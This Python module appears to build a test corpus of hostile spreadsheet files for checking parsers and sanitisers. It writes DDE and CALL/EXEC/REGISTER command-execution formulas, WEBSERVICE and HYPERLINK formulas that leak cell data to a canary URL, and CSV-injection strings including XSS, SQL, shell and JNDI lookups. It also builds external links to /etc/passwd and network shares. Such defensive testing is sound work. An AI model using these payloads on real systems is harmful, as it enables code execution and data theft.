"""Cells that compute, call out or claim a value that is not theirs."""

from __future__ import annotations

from xml.sax.saxutils import escape, quoteattr

from .model import CANARY_URL, Kit
from .parts import (
    DECL,
    MAIN,
    SHEET,
    SHEETML,
    Parts,
    csv_text,
    number,
    ods,
    ods_cell,
    ods_row,
    row,
    table_with,
    xlsx,
)

CALLS = {
    "dde-cmd": "cmd|'/c calc'!A1",
    "dde-msexcel": "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "dde-function": 'DDE("cmd";"/c calc";"A1")',
    "hyperlink": f'HYPERLINK("{CANARY_URL}/?leak="&A2,"click")',
    "hyperlink-script": 'HYPERLINK("javascript:alert(1)","click")',
    "webservice": f'WEBSERVICE("{CANARY_URL}/?leak="&A2)',
    "filterxml": f'FILTERXML(WEBSERVICE("{CANARY_URL}"),"//a")',
    "image": f'IMAGE("{CANARY_URL}/pixel.png")',
    "importxml": f'IMPORTXML(CONCAT("{CANARY_URL}/?v=",A2),"//a")',
    "importdata": f'IMPORTDATA("{CANARY_URL}")',
    "rtd": 'RTD("evil.server","","topic")',
    "call": 'CALL("kernel32","WinExec","JCJ","calc",5)',
    "exec": 'EXEC("calc.exe")',
    "register": 'REGISTER("urlmon","URLDownloadToFileA","JJCCJJ")',
    "indirect-share": "INDIRECT(\"'\\\\127.0.0.1\\share\\[x.xlsx]S'!A1\")",
}
LIES = {
    "sum-lie": ("SUM(B2:B6)", "n", "999999"),
    "text-for-number": ("1+1", "str", "two million"),
    "no-value": ("SUM(B2:B6)", "n", None),
    "error-value": ("1/0", "e", "#DIV/0!"),
    "unknown-error": ("1/0", "e", "#EVIL!"),
    "boolean-lie": ("FALSE()", "b", "1"),
    "boolean-seven": ("TRUE()", "b", "7"),
    "itself": ("C7", "n", "42"),
    "volatile": ("RAND()*NOW()", "n", "0.5"),
    "unknown-type": ("1", "zz", "3"),
    "shared-index-lie": ("1", "s", "999999999"),
    "huge-formula": ("+".join(["1"] * 4000), "n", "1"),
    "deep-formula": ("(" * 3000 + "1" + ")" * 3000, "n", "1"),
}


def _formula(text: str, kind: str = "n", value: str | None = "0", attributes: str = "") -> Parts:
    """Give a workbook with one formula cell."""
    cached = "" if value is None else f"<v>{escape(value)}</v>"
    cell = f'<c r="C7" t="{kind}"><f{attributes}>{escape(text)}</f>{cached}</c>'
    return xlsx(row(7, number("B7", 5) + cell))


def _ods_formula(text: str, value: str = "0") -> Parts:
    """Give an ods with one formula cell."""
    formula = f" table:formula={quoteattr('of:=' + text)}"
    return ods(ods_row(ods_cell("Fernhill") + ods_cell(5) + ods_cell(value, formula)))


def _calls(kit: Kit) -> None:
    """Write formulas that would run a program or fetch an address."""
    for label, text in CALLS.items():
        kit.add("formula-calls", f"{label}.xlsx", _formula(text, "str", "ok").zip(), "defused")
        kit.add("formula-calls", f"{label}.ods", _ods_formula(text, "ok").zip(), "defused")
        kit.add("formula-calls", f"{label}.csv", csv_text(table_with("=" + text)), "defused")


def _lies(kit: Kit) -> None:
    """Write formulas whose kept value is not their result."""
    family = "formula-lies"
    for label, (text, kind, value) in LIES.items():
        kit.add(family, f"{label}.xlsx", _formula(text, kind, value).zip(), "defused")
    lie = ' table:formula="of:=SUM([.B2:.B6])"'
    for label, cell in (
        (
            "number-and-text-differ",
            (
                '<table:table-cell office:value-type="float" '
                'office:value="1"><text:p>1,000,000</text:p></table:table-cell>'
            ),
        ),
        (
            "float-says-text",
            (
                '<table:table-cell office:value-type="float" '
                'office:value="lots"><text:p>3</text:p></table:table-cell>'
            ),
        ),
        ("no-value", f"<table:table-cell{lie}/>"),
        ("cached-lie", ods_cell(999999, lie)),
        (
            "currency-lie",
            (
                '<table:table-cell office:value-type="currency" office:currency="GBP" '
                'office:value="5"><text:p>$9</text:p></table:table-cell>'
            ),
        ),
        (
            "date-lie",
            (
                '<table:table-cell office:value-type="date" '
                'office:date-value="2021-99-99"><text:p>1 May</text:p></table:table-cell>'
            ),
        ),
        (
            "percentage",
            (
                '<table:table-cell office:value-type="percentage" '
                'office:value="7"><text:p>7%</text:p></table:table-cell>'
            ),
        ),
    ):
        kit.add(
            family,
            f"{label}.ods",
            ods(ods_row(ods_cell("Fernhill") + ods_cell(5) + cell)).zip(),
            "defused",
        )
    for label, attributes in (
        ("array-whole-sheet", ' t="array" ref="A1:XFD1048576"'),
        ("shared-no-master", ' t="shared" si="9999"'),
        ("data-table", ' t="dataTable" ref="A1:C6" r1="XFD1"'),
        ("calculate-always", ' ca="1"'),
    ):
        kit.add(family, f"{label}.xlsx", _formula("1+1", "n", "2", attributes).zip(), "defused")


INJECTIONS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "line-feed": "\n=1+1",
    "space": " =1+1",
    "wide-equals": "\uff1d1+1",
    "wide-plus": "\uff0b1+1",
    "wide-minus": "\uff0d1+1",
    "wide-at": "\uff20SUM(1)",
    "quote": "'=1+1",
    "double-quote": '"=1+1"',
    "nul": "\0=1+1",
    "zero-width": "\u200b=1+1",
    "mark": "\ufeff=1+1",
    "pipe": "|calc",
    "percent": "%0A=1+1",
    "semicolon-break": ";=1+1",
    "html": "<img src=x onerror=alert(1)>",
    "script": "<script>alert(1)</script>",
    "template": "{{7*7}}${7*7}<%= 7*7 %>",
    "sql": "'; DROP TABLE returns; --",
    "markdown": f"[x](javascript:alert(1)) ![y]({CANARY_URL}/p.png)",
    "shell": "$(touch /tmp/x)`id`",
    "log-lookup": "${jndi:ldap://127.0.0.1:47999/a}",
    "newline-log": "x\nERROR admin logged in",
}


def _injection(kit: Kit) -> None:
    """Write texts that become formulas or markup when they are passed on."""
    for label, text in INJECTIONS.items():
        kit.add("csv-injection", f"{label}.csv", csv_text(table_with(text)), "defused")
    kit.add(
        "csv-injection",
        "in-header.csv",
        csv_text((("=cmd|'/c calc'!A1", "@Count", "+Note"), ("a", 1, "b"))),
        "defused",
    )
    kit.add(
        "csv-injection",
        "in-first-column.csv",
        csv_text((("Name", "Count", "Note"), ("=1+1", 1, "b"))),
        "defused",
    )
    for label in ("equals", "at", "html", "template", "tab", "script"):
        rows = table_with(INJECTIONS[label])
        kit.add("csv-injection", f"{label}.xlsx", xlsx(rows=rows).zip(), "defused")
        kit.add("csv-injection", f"{label}.ods", ods(rows=rows).zip(), "defused")


def _external(kit: Kit) -> None:
    """Write workbooks tied to other workbooks, queries and connections."""
    family = "external-links"
    kinds = {
        "http": f"{CANARY_URL}/other.xlsx",
        "file": "file:///etc/passwd",
        "share": "file://///127.0.0.1/share/other.xlsx",
        "drive": "C:\\Windows\\win.ini",
        "relative": "../../../../etc/passwd",
        "ftp": "ftp://127.0.0.1:47999/x.xlsx",
    }
    for label, target in kinds.items():
        book = _formula("[1]Sheet1!A1", "n", "77")
        part = "xl/externalLinks/externalLink1.xml"
        book.put(
            part,
            f'{DECL}<externalLink xmlns="{MAIN}"><externalBook xmlns:r="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"><sheetNames>'
            '<sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>',
            f"{SHEETML}.externalLink+xml",
        )
        book.link(part, "rId1", "externalLinkPath", target, outside=True)
        book.link("xl/workbook.xml", "rIdX", "externalLink", "externalLinks/externalLink1.xml")
        book.swap(
            "xl/workbook.xml",
            "</sheets>",
            '</sheets><externalReferences><externalReference r:id="rIdX"/></externalReferences>',
        )
        kit.add(family, f"{label}.xlsx", book.zip(), "defused")
        text = f"'{target}'#$Sheet1.A1"
        kit.add(family, f"{label}.ods", _ods_formula(text, "77").zip(), "defused")
    dde = xlsx().put(
        "xl/externalLinks/externalLink1.xml",
        f'{DECL}<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc">'
        '<ddeItems><ddeItem name="A1" advise="1"/></ddeItems></ddeLink></externalLink>',
        f"{SHEETML}.externalLink+xml",
    )
    dde.link("xl/workbook.xml", "rIdX", "externalLink", "externalLinks/externalLink1.xml")
    kit.add(family, "dde-link.xlsx", dde.zip(), "defused")
    wires = {
        "web": f'<webPr xml="1" url="{CANARY_URL}/q"/>',
        "database": '<dbPr connection="Provider=SQLOLEDB;Data Source=127.0.0.1" command="DROP"/>',
        "text": '<textPr sourceFile="/etc/passwd"/>',
    }
    for label, xml in wires.items():
        book = xlsx().put(
            "xl/connections.xml",
            f'{DECL}<connections xmlns="{MAIN}"><connection id="1" name="c" '
            f'type="4" refreshOnLoad="1" background="1">{xml}</connection></connections>',
            f"{SHEETML}.connections+xml",
        )
        book.link("xl/workbook.xml", "rIdC", "connections", "connections.xml")
        kit.add(family, f"connection-{label}.xlsx", book.zip(), "defused")
    for label, target in (
        ("http", CANARY_URL),
        ("file", "file:///etc/passwd"),
        ("script", "javascript:alert(1)"),
        ("program", "C:\\calc.exe"),
    ):
        book = xlsx(tail='<hyperlinks><hyperlink ref="A2" r:id="rIdH"/></hyperlinks>')
        book.link(SHEET, "rIdH", "hyperlink", target, outside=True)
        kit.add(family, f"hyperlink-{label}.xlsx", book.zip(), "defused")


def make(kit: Kit) -> None:
    """Write every file of this module."""
    for part in (_calls, _lies, _injection, _external):
        part(kit)
